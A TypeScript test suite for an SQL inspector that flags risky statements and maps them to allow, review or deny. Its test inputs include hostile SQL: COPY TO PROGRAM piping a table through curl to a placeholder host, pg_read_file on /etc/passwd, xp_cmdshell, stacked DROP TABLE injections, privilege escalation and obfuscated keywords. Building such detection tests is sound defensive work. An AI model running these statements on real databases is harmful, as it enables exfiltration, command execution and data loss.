// The SQL inspector: the shared labelled corpus, this folder's own per-dialect table
// (sql-cases.jsonl), hostile inputs, spans, paths, the cache and the findings contract.
// The policy engine does not exist yet, so `decisionOf` maps finding kinds to the default pack's
// decision as the corpus README states it (strictest wins: deny > review > allow), with these
// choices for the kinds the README does not name:
//   - sql.multi_statement → allow: several statements are not a risk in themselves; each one is
//     judged through its own findings (so `SELECT 1; DROP TABLE t` is denied by the DROP);
//   - sql.transaction → allow: BEGIN/COMMIT/ROLLBACK change nothing by themselves;
//   - sql.other → review: parsed, but in no class above (SET of a session variable, VACUUM,
//     EXECUTE of a statement prepared earlier) — a person looks rather than a rule guessing;
//   - inspect.limit, inspect.error, sql.unparsed, sql.obfuscation, and any unknown kind → deny.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { Buffer } from 'node:buffer';
import { FINDING_KINDS, SQL_DIALECTS, type Finding, type SqlDialect } from '../../../gateway/inspect/types.ts';
import { initSqlInspector, inspectSql, SQL_LIMITS } from '../../../gateway/inspect/sql/index.ts';
import { SEVERITY, type SqlKind } from '../../../gateway/inspect/sql/collector.ts';
import { defaultDecision } from '../../support/default-pack.ts';
import { corpusFile } from '../../support/corpus.ts';

type Decision = 'allow' | 'review' | 'deny';

const RANK: Record<Decision, number> = { allow: 0, review: 1, deny: 2 };

/** What the shipped default pack decides for these findings (the real policy engine). */
function decisionOf(findings: readonly Finding[]): Decision {
  return defaultDecision(findings, 'sql') as Decision;
}

interface Case { dialect: SqlDialect; sql: string; expect: Decision; kinds?: string[]; note?: string }

function readCases(url: URL | string): Case[] {
  return readFileSync(url, 'utf8').split('\n').filter((l) => l.trim() !== '').map((l) => JSON.parse(l) as Case);
}

const corpus = readCases(corpusFile('sql.jsonl'));
const table = readCases(new URL('./sql-cases.jsonl', import.meta.url));

interface Miss { dialect: string; sql: string; expect: Decision; got: Decision; missing: string; findings: string }

function missTable(misses: readonly Miss[]): string {
  const rows = misses.map((m) => `  ${m.dialect.padEnd(11)} ${JSON.stringify(m.sql).slice(0, 60).padEnd(60)} expect ${m.expect.padEnd(6)} got ${m.got.padEnd(6)} ${m.missing ? `missing ${m.missing} ` : ''}| ${m.findings}`);
  return `${misses.length} miss(es):\n${rows.join('\n')}`;
}

function score(cases: readonly Case[]): { misses: Miss[]; under: Miss[]; exact: number } {
  const misses: Miss[] = [];
  let exact = 0;
  for (const c of cases) {
    const findings = inspectSql(c.sql, { dialect: c.dialect });
    const got = decisionOf(findings);
    const missing = (c.kinds ?? []).filter((k) => !findings.some((f) => f.kind === k));
    if (got === c.expect) exact++;
    if (got !== c.expect || missing.length > 0) {
      misses.push({ dialect: c.dialect, sql: c.sql, expect: c.expect, got, missing: missing.join(','), findings: findings.map((f) => `${f.kind}: ${f.detail}`).join('; ') });
    }
  }
  return { misses, under: misses.filter((m) => RANK[m.got] < RANK[m.expect]), exact };
}

const kinds = (findings: readonly Finding[]) => findings.map((f) => f.kind);
/** The detail of the first finding of `kind` for `sql`, and the text its span covers. */
const detail = (sql: string, kind: string, dialect: SqlDialect = 'postgresql') => inspectSql(sql, { dialect }).find((f) => f.kind === kind)?.detail;
function at(sql: string, kind: string, dialect: SqlDialect = 'postgresql'): string {
  const f = inspectSql(sql, { dialect }).find((x) => x.kind === kind);
  assert.ok(f?.span, `${kind} with a span for ${sql}`);
  return sql.slice(f.span.start, f.span.end);
}

test('before initSqlInspector, a PostgreSQL statement comes back as inspect.error instead of a throw', () => {
  const findings = inspectSql('SELECT 1', { dialect: 'postgresql' });
  assert.deepEqual(kinds(findings), ['inspect.error']);
  assert.match(findings[0]!.detail, /PostgreSQL parser is not loaded/);
  assert.equal(decisionOf(findings), 'deny');
  // node-sql-parser dialects need no WASM and work already.
  assert.deepEqual(kinds(inspectSql('SELECT 1', { dialect: 'mysql' })), ['sql.read']);
});

test('initSqlInspector is idempotent, also when called concurrently, and the refusal above was not cached', async () => {
  await Promise.all([initSqlInspector(), initSqlInspector()]);
  await initSqlInspector();
  assert.deepEqual(kinds(inspectSql('SELECT 1', { dialect: 'postgresql' })), ['sql.read']);
});

test('the shared corpus: nothing expected deny/review comes out allow, and exact agreement is at least 95%', async () => {
  await initSqlInspector();
  assert.ok(corpus.length >= 30, `the corpus has ${corpus.length} cases`);
  const { misses, under, exact } = score(corpus);
  assert.equal(under.length, 0, missTable(under));
  assert.ok(exact / corpus.length >= 0.95, `exact agreement ${exact}/${corpus.length}\n${missTable(misses)}`);
});

test('the per-dialect table: every decision and every named finding kind', async () => {
  await initSqlInspector();
  assert.ok(table.length >= 400, `the table has ${table.length} cases`);
  for (const d of SQL_DIALECTS) assert.ok(table.filter((c) => c.dialect === d).length >= 3, `cases for ${d}`);
  for (const e of ['allow', 'review', 'deny'] as const) assert.ok(table.some((c) => c.expect === e), `cases expecting ${e}`);
  const { misses } = score(table);
  assert.equal(misses.length, 0, missTable(misses));
});

test('every finding kind is one the contract defines, with the severity of its kind and the default path', async () => {
  await initSqlInspector();
  const known = new Set(Object.keys(FINDING_KINDS));
  for (const c of [...corpus, ...table]) {
    for (const f of inspectSql(c.sql, { dialect: c.dialect })) {
      assert.ok(known.has(f.kind), `${f.kind} from ${JSON.stringify(c.sql)}`);
      assert.equal(f.severity, SEVERITY[f.kind as SqlKind], f.kind);
      assert.equal(f.path, '$');
      assert.ok(f.detail.length > 0 && f.detail.length <= 400, `detail of ${f.kind}`);
      if (f.span) assert.ok(f.span.start >= 0 && f.span.start <= f.span.end && f.span.end <= c.sql.length, `span ${JSON.stringify(f.span)} of ${JSON.stringify(c.sql)}`);
    }
  }
});

test('details say what and why, in a form a reviewer can read', async () => {
  await initSqlInspector();
  assert.equal(detail('DELETE FROM users WHERE 1=1', 'sql.write.unbounded'), 'DELETE FROM users without an effective WHERE (WHERE 1 = 1 is always true)');
  assert.equal(detail('UPDATE public.accounts SET balance = 0', 'sql.write.unbounded'), 'UPDATE public.accounts without a WHERE');
  assert.equal(detail('DELETE FROM t WHERE id = 5 OR 1 = 1', 'sql.write.unbounded'), 'DELETE FROM t without an effective WHERE (WHERE id = 5 OR 1 = 1 is always true)');
  assert.equal(detail('EXPLAIN ANALYZE DELETE FROM orders', 'sql.write.unbounded'), 'DELETE FROM orders without a WHERE (EXPLAIN ANALYZE executes it)');
  assert.equal(detail("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", 'sql.ddl.drop'), 'DROP TABLE users (in a DO block, in SQL text run by EXECUTE)');
  assert.equal(detail("SELECT length(pg_read_file('/etc/passwd'))", 'sql.escape'), 'pg_read_file() reads files on the database server');
  assert.equal(detail("COPY users TO PROGRAM 'curl -d @- http://x'", 'sql.escape'), 'COPY ... TO PROGRAM runs a shell command on the database server');
  assert.equal(detail('WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone', 'sql.write.unbounded'), 'DELETE FROM orders without a WHERE');
  assert.equal(detail('SELECT 1 /*!50000 ; DROP TABLE users */', 'sql.obfuscation', 'mysql'), 'executable comment at offset 9: MySQL and MariaDB run the text inside /*! ... */ as SQL');
  assert.equal(detail('S\u0415LECT 1', 'sql.obfuscation'), 'look-alike characters spell the keyword or routine "SELECT" at offset 0');
  assert.equal(detail('SELEC id FROM users', 'sql.unparsed'), 'does not parse as postgresql: syntax error at offset 0');
  assert.equal(detail("EXEC xp_cmdshell 'dir c:\\'", 'sql.escape', 'transactsql'), 'xp_cmdshell runs operating-system commands on the database server (named in text that did not parse)');
});

test('a WHERE bounds only by comparing a column of the target; the detail says which rule failed', async () => {
  await initSqlInspector();
  assert.equal(detail("DELETE FROM users WHERE length('a') > 0", 'sql.write.unbounded'), 'DELETE FROM users without an effective WHERE (WHERE length(...) > 0 does not restrict the rows of users)');
  assert.equal(detail('DELETE FROM users WHERE id IS NOT NULL', 'sql.write.unbounded'), 'DELETE FROM users without an effective WHERE (WHERE id IS NOT NULL does not restrict the rows of users)');
  assert.equal(detail('UPDATE users SET plan = 1 FROM plans WHERE plans.id = 3', 'sql.write.unbounded'), 'UPDATE users without an effective WHERE (WHERE plans.id = 3 does not restrict the rows of users)');
  assert.equal(detail('DELETE FROM users WHERE id IS NOT NULL', 'sql.write.unbounded', 'mysql'), 'DELETE FROM users without an effective WHERE (WHERE id IS NOT NULL does not restrict the rows of the table)');
  assert.equal(detail('MERGE INTO users u USING s ON true WHEN MATCHED THEN DELETE', 'sql.write.unbounded'), 'MERGE INTO users WHEN MATCHED THEN DELETE changes every target row (the condition true is always true)');
  assert.equal(detail('MERGE INTO users u USING s ON s.flag WHEN MATCHED AND s.x > 1 THEN UPDATE SET a = 1', 'sql.write.unbounded'), 'MERGE INTO users WHEN MATCHED AND ... THEN UPDATE changes every target row (the condition s.flag AND s.x > 1 does not restrict the rows of users)');
  // Each action is judged: a bounded DELETE beside an unbounded UPDATE is still unbounded.
  const both = inspectSql('MERGE INTO users u USING s ON u.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED BY SOURCE THEN UPDATE SET a = 1', { dialect: 'postgresql' });
  assert.deepEqual(kinds(both), ['sql.write.unbounded']);
  assert.equal(both[0]!.detail, 'MERGE INTO users WHEN NOT MATCHED BY SOURCE THEN UPDATE changes every target row without a match');
});

test('catalog writes and set_config() get the finding of what they amount to', async () => {
  await initSqlInspector();
  assert.equal(detail("UPDATE pg_settings SET setting = 'off' WHERE name = 'fsync'", 'sql.server_config'), "UPDATE pg_settings writes a system catalog, which changes the server's configuration or schema behind its back");
  assert.equal(detail("UPDATE mysql.user SET plugin = '' WHERE user = 'root'", 'sql.privilege', 'mysql'), 'UPDATE mysql.user writes the catalog of roles and privileges, which changes who may do what');
  assert.equal(detail("SELECT set_config('role', 'postgres', false)", 'sql.privilege'), "set_config('role') changes the session's identity (like SET ROLE)");
  // SET ROLE and its function form are refused alike.
  assert.equal(decisionOf(inspectSql('SET ROLE postgres', { dialect: 'postgresql' })), 'deny');
  assert.equal(decisionOf(inspectSql("SELECT set_config('role', 'postgres', false)", { dialect: 'postgresql' })), 'deny');
});

test('SQL text handed to routines that run it is inspected recursively, to a bound', async () => {
  await initSqlInspector();
  const f = inspectSql("SELECT ts_stat('select pg_read_file(''/etc/passwd'')')", { dialect: 'postgresql' });
  assert.ok(f.some((x) => x.kind === 'sql.escape' && x.detail === 'pg_read_file() reads files on the database server (in SQL text passed to ts_stat())'), JSON.stringify(f));
  const dynamic = inspectSql('SELECT cron.schedule(s, c) FROM jobs', { dialect: 'postgresql' }).find((x) => x.kind === 'sql.procedural');
  assert.equal(dynamic?.detail, 'cron.schedule() runs SQL text computed at run time (dynamic SQL, not inspectable here)');
  let nested = 'DROP TABLE t';
  for (let i = 0; i < 8; i++) nested = `SELECT ts_stat(${quote(nested)})`;
  const deep = inspectSql(nested, { dialect: 'postgresql' });
  const limit = deep.find((x) => x.kind === 'inspect.limit');
  assert.match(limit?.detail ?? '', /^code nested more than 6 levels deep in SQL text passed to ts_stat\(\) was not inspected/);
  assert.equal(decisionOf(deep), 'deny');
});

test('details never carry literal values (a password, a file name, a quoted error token)', async () => {
  await initSqlInspector();
  const secret = 'hunter2';
  const texts = [
    `ALTER USER bob WITH PASSWORD '${secret}'`,
    `ALTER ROLE x PASSWORD '${secret}' ${secret}`,
    `SELECT '${secret}`,
    `SELECT 1 FROM t WHERE a = '${secret}' AND`,
    `COPY t TO PROGRAM '${secret}'`,
    `SELECT pg_read_file('/${secret}')`,
    `DELETE FROM t WHERE '${secret}' = '${secret}'`,
    `SELECT ${secret} ${secret}`,
  ];
  for (const dialect of ['postgresql', 'mysql', 'transactsql'] as const) {
    for (const sql of texts) {
      for (const f of inspectSql(sql, { dialect })) assert.ok(!f.detail.includes(secret), `${dialect} ${f.kind}: ${f.detail}`);
    }
  }
});

test('spans point into the original text in UTF-16 code units', async () => {
  await initSqlInspector();
  assert.equal(at("SELECT 'é😀'; DROP TABLE t; SELECT 2", 'sql.ddl.drop'), 'DROP TABLE t', 'libpg-query byte offsets converted');
  assert.equal(at("SELECT 'é😀' FROM WHERE", 'sql.unparsed'), 'W', 'libpg-query cursor (code points) converted');
  assert.equal(at('SELECT 1; DROP TABLE t', 'sql.ddl.drop', 'mysql'), 'DROP TABLE t');
  assert.equal(at('SELECT 1 FROM us\u0435rs', 'sql.obfuscation'), 'us\u0435rs');
  assert.equal(at('DEL\u200bETE FROM t', 'sql.obfuscation'), '\u200b');
  assert.equal(at('SELECT 1 /*! DROP TABLE t */', 'sql.obfuscation', 'mysql'), '/*!');
  assert.equal(at('SELECT 1; SELECT 2', 'sql.multi_statement'), 'SELECT 1; SELECT 2');
});

test('the path option is copied into every finding, also on a cache hit (default $)', async () => {
  await initSqlInspector();
  const sql = 'SELECT 1; DROP TABLE t';
  for (const f of inspectSql(sql, { dialect: 'postgresql', path: '$.arguments.query' })) assert.equal(f.path, '$.arguments.query');
  for (const f of inspectSql(sql, { dialect: 'postgresql' })) assert.equal(f.path, '$');
  for (const f of inspectSql(sql, { dialect: 'postgresql', path: '$.b[0]' })) assert.equal(f.path, '$.b[0]');
});

test('the cache: the same text gives equal findings, callers cannot corrupt it, dialects are kept apart', async () => {
  await initSqlInspector();
  const sql = 'DELETE FROM cache_probe';
  const first = inspectSql(sql, { dialect: 'postgresql' });
  first.pop();
  first.push({ kind: 'sql.read', path: '$', severity: 'info', detail: 'planted' });
  const second = inspectSql(sql, { dialect: 'postgresql' });
  assert.deepEqual(second.map((f) => [f.kind, f.detail]), [['sql.write.unbounded', 'DELETE FROM cache_probe without a WHERE']]);
  assert.throws(() => { (second[0] as { detail: string }).detail = 'x'; }, TypeError, 'cached findings are frozen');
  assert.throws(() => { (second[0]!.span as { start: number }).start = 5; }, TypeError, 'and so are their spans');
  assert.deepEqual(inspectSql(sql, { dialect: 'postgresql' })[0]!.span, { start: 0, end: sql.length });
  // The same text in another dialect is inspected on its own: `/*!` only runs on MySQL, but is refused everywhere.
  assert.deepEqual(kinds(inspectSql("SELECT 'a\\'; DROP TABLE t; -- '", { dialect: 'postgresql' })), ['sql.multi_statement', 'sql.read', 'sql.ddl.drop']);
  assert.deepEqual(kinds(inspectSql("SELECT 'a\\'; DROP TABLE t; -- '", { dialect: 'mysql' })), ['sql.obfuscation', 'sql.read']);
  // A custom size limit is not served from (or stored in) the cache.
  assert.deepEqual(kinds(inspectSql(sql, { dialect: 'postgresql', maxChars: 5 })), ['inspect.limit']);
  assert.deepEqual(kinds(inspectSql(sql, { dialect: 'postgresql' })), ['sql.write.unbounded']);
});

test('blank and comment-only text runs nothing and has no findings', async () => {
  await initSqlInspector();
  for (const dialect of ['postgresql', 'mysql', 'sqlite'] as const) {
    for (const sql of ['', '   \n\t', '-- nothing', '/* nothing */']) assert.deepEqual(inspectSql(sql, { dialect }), [], `${dialect} ${JSON.stringify(sql)}`);
  }
});

test('bad arguments come back as inspect.error, never a throw', async () => {
  await initSqlInspector();
  const unknown = inspectSql('SELECT 1', { dialect: 'oracle' as SqlDialect, path: '$.q' });
  assert.deepEqual(unknown.map((f) => [f.kind, f.path, f.detail]), [['inspect.error', '$.q', 'unknown SQL dialect "oracle"']]);
  const notText = inspectSql(42 as unknown as string, { dialect: 'postgresql' });
  assert.deepEqual(notText.map((f) => [f.kind, f.detail]), [['inspect.error', 'the value to inspect is not a string']]);
  assert.deepEqual(kinds(inspectSql('SELECT 1', undefined as unknown as { dialect: SqlDialect })), ['inspect.error']);
});

test('hostile inputs: no throw, and a fail-closed finding for each', async (t) => {
  await initSqlInspector();
  const cases: Array<{ name: string; input: string; dialect: SqlDialect; kind: string; detail: RegExp }> = [
    { name: '10 MB single line', input: `SELECT '${'a'.repeat(10 * 1024 * 1024)}'`, dialect: 'postgresql', kind: 'inspect.limit', detail: /10485769 characters of SQL is more than the 1048576/ },
    { name: '10 MB single line (mysql)', input: 'a'.repeat(10 * 1024 * 1024), dialect: 'mysql', kind: 'inspect.limit', detail: /more than the 16384/ },
    { name: '10,000 nested parentheses', input: `SELECT ${'('.repeat(10_000)}1${')'.repeat(10_000)}`, dialect: 'postgresql', kind: 'inspect.limit', detail: /parentheses nest 10000 deep, more than the 256/ },
    { name: '5,000 nested parentheses (mysql, under its size limit)', input: `SELECT ${'('.repeat(5000)}1${')'.repeat(5000)}`, dialect: 'mysql', kind: 'inspect.limit', detail: /parentheses nest 5000 deep/ },
    { name: 'lone high surrogate', input: "SELECT '\uD800'", dialect: 'postgresql', kind: 'sql.unparsed', detail: /lone surrogate at offset 8/ },
    { name: 'lone low surrogate', input: 'SELECT 1 \uDC00', dialect: 'sqlite', kind: 'sql.unparsed', detail: /lone surrogate at offset 9/ },
    { name: 'invalid UTF-8 decoded', input: Buffer.from([0x53, 0x45, 0x4c, 0x45, 0x43, 0x54, 0x20, 0x27, 0xff, 0xfe, 0x27]).toString('utf8'), dialect: 'postgresql', kind: 'sql.unparsed', detail: /U\+FFFD at offset 8: the text was not valid UTF-8/ },
    { name: 'NUL character', input: 'SELECT 1\u0000; DROP TABLE t', dialect: 'mysql', kind: 'sql.unparsed', detail: /NUL character at offset 8/ },
    { name: 'deep CASE nesting', input: `SELECT ${'CASE WHEN a THEN '.repeat(5000)}1${' END'.repeat(5000)}`, dialect: 'postgresql', kind: 'inspect.limit', detail: /memory exhausted/ },
    { name: 'NOT chain past the walk depth', input: `DELETE FROM t WHERE ${'NOT '.repeat(5000)}false`, dialect: 'postgresql', kind: 'inspect.limit', detail: /nests deeper than 2000 levels/ },
    { name: 'NOT chain past the constant folder', input: `DELETE FROM t WHERE ${'NOT '.repeat(150)}false`, dialect: 'postgresql', kind: 'sql.write.unbounded', detail: /nested too deeply to show that it filters/ },
    { name: 'runs of /**/ (quadratic in the PostgreSQL scanner)', input: `SELECT 1 ${'/**/'.repeat(40_000)}`, dialect: 'postgresql', kind: 'inspect.limit', detail: /runs of operator characters/ },
    { name: 'deep CASE nesting (mysql)', input: `SELECT ${'CASE WHEN a THEN '.repeat(700)}1${' END'.repeat(700)}`, dialect: 'mysql', kind: 'inspect.limit', detail: /call stack|nests deeper/ },
    { name: 'unterminated string', input: `SELECT '${'x'.repeat(10_000)}`, dialect: 'mysql', kind: 'sql.unparsed', detail: /syntax error at offset/ },
    { name: 'SQL nested in EXECUTE strings past the embedding limit', input: nestedExecute(8), dialect: 'postgresql', kind: 'inspect.limit', detail: /nested more than 6 levels deep/ },
  ];
  for (const c of cases) {
    await t.test(c.name, () => {
      const findings = inspectSql(c.input, { dialect: c.dialect });
      const f = findings.find((x) => x.kind === c.kind);
      assert.ok(f, `${c.kind} expected, got ${findings.map((x) => `${x.kind}: ${x.detail}`).join('; ')}`);
      assert.match(f.detail, c.detail);
      assert.notEqual(decisionOf(findings), 'allow');
    });
  }
  await t.test('a 5,000-digit number parses and folds without loss of sanity', () => {
    const big = '9'.repeat(5000);
    assert.deepEqual(kinds(inspectSql(`SELECT ${big}`, { dialect: 'postgresql' })), ['sql.read']);
    const taut = inspectSql(`DELETE FROM t WHERE ${big} > 1`, { dialect: 'postgresql' });
    assert.deepEqual(taut.map((f) => f.detail), ['DELETE FROM t without an effective WHERE (WHERE a huge number > 1 is always true)']);
    assert.deepEqual(kinds(inspectSql(`DELETE FROM t WHERE id = ${big}`, { dialect: 'mysql' })), ['sql.write']);
  });
  await t.test('a 1 MiB script of statements is inspected whole', () => {
    const script = 'INSERT INTO t VALUES (1);'.repeat(Math.floor(SQL_LIMITS.maxChars.postgresql / 25));
    const findings = inspectSql(script, { dialect: 'postgresql' });
    assert.deepEqual([...new Set(kinds(findings))], ['sql.multi_statement', 'sql.write']);
    assert.ok(findings.length <= SQL_LIMITS.budget.maxFindings);
  });
  await t.test('long flat AND chains are not mistaken for deep nesting', () => {
    const where = Array.from({ length: 600 }, (_, i) => `a = ${i}`).join(' AND ');
    assert.deepEqual(kinds(inspectSql(`DELETE FROM t WHERE ${where}`, { dialect: 'mysql' })), ['sql.write']);
    assert.deepEqual(kinds(inspectSql(`DELETE FROM t WHERE ${where} OR 1 = 1`, { dialect: 'mysql' })), ['sql.write.unbounded']);
  });
});

/** A DO block whose EXECUTE runs a DO block whose EXECUTE runs ... `levels` deep, ending in a DROP. */
function nestedExecute(levels: number): string {
  let sql = 'DROP TABLE t';
  for (let i = 0; i < levels; i++) sql = `DO $l${i}$ BEGIN EXECUTE ${quote(sql)}; END $l${i}$`;
  return sql;
}

function quote(s: string): string {
  return `'${s.replace(/'/g, "''")}'`;
}
